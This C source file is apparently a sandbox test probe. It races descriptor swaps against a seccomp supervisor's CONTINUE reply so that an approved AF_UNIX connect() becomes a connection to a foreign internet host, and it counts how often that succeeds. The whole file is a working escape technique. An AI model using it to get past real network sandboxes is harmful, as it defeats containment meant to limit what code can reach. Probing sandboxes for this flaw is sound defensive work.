/* The fd-table race against a CONTINUE reply: `net_fdswap SIDECAR FOREIGN PORT UNIXPATH COUNT`.
 * The supervisor answers connect() on an AF_UNIX socket with SECCOMP_USER_NOTIF_FLAG_CONTINUE,
 * after which the kernel runs the call again from the registers: it looks the fd up anew and
 * re-reads the sockaddr (seccomp_unotify(2), "Caveats"). One thread keeps moving an AF_UNIX
 * socket and an AF_INET socket in turn onto one descriptor number, rewriting the shared
 * sockaddr to match (a unix path, then FOREIGN:PORT); the main thread connects that number in
 * a loop. Prints "inet_connected=N" (connections made on an AF_INET socket to FOREIGN). */
#include <pthread.h>
#include <stdatomic.h>
#include <sys/un.h>
#include <unistd.h>

#include "net_common.h"

enum { kSlot = 100 };

static union {
  struct sockaddr_un un;
  struct sockaddr_in in;
  struct sockaddr_storage ss;
} shared;
static struct sockaddr_un unix_addr;
static struct sockaddr_in foreign_addr;
static atomic_int stop;

static void *swapper(void *arg) {
  (void)arg;
  while (!atomic_load(&stop)) {
    const int u = socket(AF_UNIX, SOCK_STREAM, 0);
    dup2(u, kSlot);
    close(u);
    memcpy(&shared, &unix_addr, sizeof unix_addr);
    const int i = socket(AF_INET, SOCK_STREAM, 0);
    dup2(i, kSlot);
    close(i);
    memcpy(&shared, &foreign_addr, sizeof foreign_addr);
  }
  return NULL;
}

int main(int argc, char **argv) {
  if (argc != 6) {
    fprintf(stderr, "usage: net_fdswap SIDECAR FOREIGN PORT UNIXPATH COUNT\n");
    return 2;
  }
  (void)argv[1];
  struct sockaddr_storage ss;
  net_parse(argv[2], argv[3], &ss);
  memcpy(&foreign_addr, &ss, sizeof foreign_addr);
  unix_addr.sun_family = AF_UNIX;
  strncpy(unix_addr.sun_path, argv[4], sizeof unix_addr.sun_path - 1);
  const long count = strtol(argv[5], NULL, 10);
  pthread_t t;
  if (pthread_create(&t, NULL, swapper, NULL) != 0) return 3;
  long inet_connected = 0;
  for (long n = 0; n < count; ++n) {
    if (connect(kSlot, (struct sockaddr *)&shared, sizeof shared.un) == 0) {
      int domain = 0;
      socklen_t len = sizeof domain;
      getsockopt(kSlot, SOL_SOCKET, SO_DOMAIN, &domain, &len);
      if (domain == AF_INET) ++inet_connected;
    }
  }
  atomic_store(&stop, 1);
  pthread_join(t, NULL);
  printf("inet_connected=%ld\n", inet_connected);
  return 0;
}
